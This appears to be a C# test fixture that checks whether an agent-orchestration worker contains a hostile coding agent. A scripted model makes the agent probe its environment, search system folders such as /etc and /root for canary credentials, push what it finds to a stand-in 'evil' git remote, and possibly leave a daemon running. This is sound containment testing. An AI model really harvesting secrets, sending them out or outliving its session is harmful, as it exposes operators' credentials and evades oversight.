using System.Diagnostics;
using System.Security.Cryptography;
using AgentConductor.TestSupport;
using AgentConductor.TestSupport.FakeGitHub;
using AgentConductor.TestSupport.GitHttp;
using AgentConductor.TestSupport.ScriptedModel;
using AgentConductor.Worker.Processes;

namespace AgentConductor.EndToEnd.Tests.Security;

/// <summary>
/// What a hostile-agent run needs. The agent is the real Codex CLI running <c>hostile-agent.sh</c> because the scripted
/// model asks it to (probe, search, plant); its loot comes back through the push, unmasked. The secrets are canaries
/// with a common prefix (<see cref="Prefix"/>) that the agent searches the file system for; a readable decoy proves the
/// search reaches files. The remote is served over HTTP and takes only the GitHub canary (so git really uses the token);
/// a second, "evil" remote records anything that reaches it. <see cref="HostileAgentChecks"/> judges the outcome.
/// </summary>
internal sealed class HostileAgentRig : IAsyncDisposable
{
    public const string Prefix = "zq-canary-";
    /// <summary>The agent's uid in the worker image (<c>Agent:RunAs</c>); the local launcher's pool starts here too.</summary>
    public const int AgentUid = 10001;

    private readonly TempDirectory _directory = new();
    private readonly TempDirectory _evilDirectory = new();

    private HostileAgentRig()
    {
        Remote = BareRepository.Create(_directory);
        Git(_evilDirectory.Path, "init", "--quiet", "--bare", "evil.git");
        Tools = _directory.File("hostile-" + Convert.ToHexStringLower(RandomNumberGenerator.GetBytes(4)));
        UnixFiles.CreateFolder(Tools, (UnixFileMode)0b111_101_101);
        UnixFiles.CreateFolder(Markers, (UnixFileMode)0b111_111_111 | UnixFileMode.StickyBit);
        var script = Path.Combine(Tools, "hostile-agent.sh");
        File.Copy(Path.Combine(AppContext.BaseDirectory, "Security", "hostile-agent.sh"), script);
        UnixFiles.SetMode(script, (UnixFileMode)0b111_101_101);
        var decoy = Path.Combine(DecoyFolder, "decoy.txt");
        Directory.CreateDirectory(Path.GetDirectoryName(decoy)!);
        File.WriteAllText(decoy, $"left lying around: {Decoy}\n");
    }

    public string GitHubToken { get; } = Canary("github");

    public string ModelKey { get; } = Canary("model");

    /// <summary>The conductor's own secrets, in its environment: they must never reach a worker.</summary>
    public IReadOnlyDictionary<string, string> ConductorSecrets { get; } = new Dictionary<string, string>
    {
        ["AWS_SECRET_ACCESS_KEY"] = Canary("aws-secret"),
        ["AWS_ACCESS_KEY_ID"] = Canary("aws-key-id"),
        ["AWS_SESSION_TOKEN"] = Canary("aws-session"),
        ["AGENT_CONDUCTOR_DATABASE_PASSWORD"] = Canary("conductor-only"),
    };

    /// <summary>A canary in a file every user can read: the agent's search must find it.</summary>
    public string Decoy { get; } = Canary("decoy");

    /// <summary>The hostile script and, in <see cref="Markers"/>, what its spies leave (a folder every user can write).</summary>
    public string Tools { get; }

    public string Markers => Path.Combine(Tools, "markers");

    /// <summary>Where the rig's own files are (the remote, the decoy): the agent searches it.</summary>
    public string Folder => _directory.Path;

    /// <summary>The folder of the decoy (in <see cref="Folder"/>).</summary>
    public string DecoyFolder => _directory.File("notes");

    public BareRepository Remote { get; }

    public GitHttpServer RemoteServer { get; private set; } = null!;

    public GitHttpServer Evil { get; private set; } = null!;

    public FakeGitHubServer GitHub { get; private set; } = null!;

    public ScriptedModelServer Model { get; private set; } = null!;

    public string CloneUrl => RemoteServer.Url("remote.git");

    public string EvilUrl => Evil.Url("evil.git");

    public string EvilRepository => _evilDirectory.File("evil.git");

    /// <summary>Every secret value of the run. The job token's value is never known outside the worker: it is checked by name.</summary>
    public IEnumerable<string> Secrets => [GitHubToken, ModelKey, .. ConductorSecrets.Values];

    /// <summary>The agent gets a user of its own only where the worker runs as root (as the tests do in CI).</summary>
    public static bool RunsAsRoot => OperatingSystem.IsLinux() && NativeMethods.GetEffectiveUserId() == 0;

    /// <param name="searchRoots">Where, besides the rig's folder and the usual places, the agent searches the file system for canaries.</param>
    public static async Task<HostileAgentRig> StartAsync(IEnumerable<string> searchRoots, CancellationToken cancellationToken)
    {
        var rig = new HostileAgentRig();
        rig.RemoteServer = await GitHttpServer.StartAsync(rig._directory.Path, rig.GitHubToken, cancellationToken);
        rig.Evil = await GitHttpServer.StartAsync(rig._evilDirectory.Path, token: null, cancellationToken);
        rig.GitHub = await FakeGitHubServer.StartAsync(rig.GitHubToken, cancellationToken: cancellationToken);
        var hostile = $"bash {Path.Combine(rig.Tools, "hostile-agent.sh")}";
        string[] roots = [rig.Folder, "/etc", "/home", "/opt", "/srv", "/run", "/root", "/var/tmp", .. searchRoots];
        rig.Model = await ScriptedModelServer.StartAsync(
            ModelScript.Of(
                ModelStep.Shell($"{hostile} probe"),
                ModelStep.Shell($"{hostile} search {string.Join(' ', roots.Distinct(StringComparer.Ordinal))}"),
                ModelStep.Shell($"{hostile} plant {rig.EvilUrl}"),
                ModelStep.Message("I looked around. Nothing to fix.")),
            rig.ModelKey,
            cancellationToken: cancellationToken);
        return rig;
    }

    public async ValueTask DisposeAsync()
    {
        // A daemon the agent left behind that the worker did not stop (a failing run) must not outlive the test.
        if (File.Exists(Path.Combine(Markers, "daemon.pid"))
            && int.TryParse(File.ReadAllText(Path.Combine(Markers, "daemon.pid")).Trim(), System.Globalization.NumberStyles.None, System.Globalization.CultureInfo.InvariantCulture, out var daemon)
            && CommandLine(daemon).Contains("daemon-saw", StringComparison.Ordinal))
        {
            NativeMethods.Kill(daemon, NativeMethods.SigKill);
        }

        if (Model is not null)
        {
            await Model.DisposeAsync();
        }

        await GitHub.DisposeAsync();
        await RemoteServer.DisposeAsync();
        await Evil.DisposeAsync();
        _directory.Dispose();
        _evilDirectory.Dispose();
    }

    public static string Git(string directory, params string[] arguments)
    {
        var start = new ProcessStartInfo("git") { WorkingDirectory = directory, RedirectStandardOutput = true, RedirectStandardError = true };
        foreach (var argument in arguments)
        {
            start.ArgumentList.Add(argument);
        }

        using var process = Process.Start(start)!;
        var output = process.StandardOutput.ReadToEnd();
        var error = process.StandardError.ReadToEnd();
        process.WaitForExit();
        return process.ExitCode == 0 ? output : throw new InvalidOperationException($"git {string.Join(' ', arguments)}: {error}");
    }

    private static string CommandLine(int pid)
    {
        try
        {
            return File.ReadAllText($"/proc/{pid}/cmdline");
        }
        catch (IOException)
        {
            return "";
        }
    }

    private static string Canary(string kind) => $"{Prefix}{kind}-{Convert.ToHexStringLower(RandomNumberGenerator.GetBytes(12))}";
}
